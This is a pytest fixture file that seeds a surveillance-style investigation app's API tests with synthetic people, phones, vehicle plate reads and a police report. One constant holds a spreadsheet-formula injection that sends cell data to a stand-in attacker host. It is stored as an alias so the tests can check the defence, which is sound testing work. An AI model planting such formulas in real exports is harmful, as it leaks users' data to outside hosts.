"""API fixtures: the governance world of tests/govern (users, two cases, entities) plus a small
linked neighbourhood around the case's subject, served by the real app through httpx.

The world's entities (ids are 32 characters, like content hashes):
  subject      Person "ali raza", CNIC 35202-1234567-1 (NADRA), the case's subject
  phone        Phone +923001234567 owned by the subject (reference `owner`)
  vehicle      Vehicle LEA-1234 owned by the subject; two ANPR reads of it with coordinates
  fir          FirIncident naming the subject as accused, with coordinates
  mention      Person "Mohd Ali Raza" on the FIR, same CNIC as the subject (link `same_cnic`)
  urdu         Person "محمد اسلم" (Urdu script), whose `alias` is a CSV-injection attempt
"""

from __future__ import annotations

from dataclasses import dataclass

import pytest
from fastapi.testclient import TestClient

from tahqiq.compose import create_app
from tahqiq.govern import identity
from tahqiq.store.tables import IngestBatch, Source
from tests.govern.conftest import CNIC, PASSWORD, World, add_entity, cheap_argon2, gate, world  # noqa: F401

ID = {name: f"{name[:1]}{i:031d}" for i, name in enumerate(
    ["phone2", "vehicle", "read1", "read2", "fir", "mention", "urdu", "family"], start=10)}
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@dataclass
class Api:
    client: TestClient
    world: World

    def login(self, username: str, password: str = PASSWORD) -> str:
        """Sign in with the session cookie; returns the CSRF token."""
        r = self.client.post("/api/login", json={"username": username, "password": password})
        assert r.status_code == 200, r.text
        return r.json()["csrf_token"]

    def token(self, username: str) -> str:
        tok, _ = identity.create_token(self.world.gate.audit, self.world.users[username], "test")
        return tok


def populate(engine, w: World) -> None:
    with engine.begin() as conn:
        for name in ("excise", "anpr", "police"):
            conn.execute(Source.__table__.insert().values(name=name, label=name))
        for bid, src in ((3, "excise"), (4, "anpr"), (5, "police")):
            conn.execute(IngestBatch.__table__.insert().values(id=bid, source=src, mapping_fingerprint="f" * 32,
                                                               input_name="x.csv", input_sha256="0" * 64))
        add_entity(conn, ID["phone2"], "Phone", "telco", {"number": ["+923331112233"], "owner": [w.subject]}, batch=2)
        add_entity(conn, ID["vehicle"], "Vehicle", "excise",
                   {"registrationNumber": ["LEA-1234"], "owner": [w.subject], "make": ["Toyota"]}, batch=3)
        add_entity(conn, ID["read1"], "PlateRead", "anpr",
                   {"plate": ["LEA-1234"], "vehicle": [ID["vehicle"]], "occurredAt": ["2026-03-01T10:00:00"],
                    "latitude": ["31.5204"], "longitude": ["74.3587"], "district": ["Lahore"],
                    "camera": ["Kalma Chowk"]},
                   batch=4)
        add_entity(conn, ID["read2"], "PlateRead", "anpr",
                   {"plate": ["LEA-1234"], "vehicle": [ID["vehicle"]], "occurredAt": ["2026-03-02T18:30:00"],
                    "district": ["Lahore"], "camera": ["Thokar"]}, batch=4)
        add_entity(conn, ID["fir"], "FirIncident", "police",
                   {"firNumber": ["123/2026"], "accused": [ID["mention"]], "offence": ["robbery"],
                    "occurredAt": ["2026-02-20T22:00:00"], "latitude": ["31.47"], "longitude": ["74.27"],
                    "district": ["Lahore"]}, batch=5)
        add_entity(conn, ID["mention"], "Person", "police", {"name": ["Mohd Ali Raza"], "cnic": [CNIC]}, batch=5)
        add_entity(conn, ID["urdu"], "Person", "police", {"name": ["محمد اسلم"], "alias": [INJECTION]}, batch=5)
    from sqlalchemy import update

    from tahqiq.store.tables import Statement
    with engine.begin() as conn:  # mark the Urdu value's script, as ingest does
        conn.execute(update(Statement).where(Statement.entity_id == ID["urdu"], Statement.prop == "name")
                     .values(script="Arab"))
    w.phone_owned, w.ids = ID["phone2"], ID


@pytest.fixture
def api(engine, world) -> Api:  # noqa: F811 - the fixture imported above
    populate(engine, world)
    app = create_app(engine, gate=world.gate)
    with TestClient(app, base_url="https://testserver") as client:
        yield Api(client, world)


def member_headers(api: Api, username: str = "ayesha") -> dict:
    return {"Authorization": f"Bearer {api.token(username)}"}
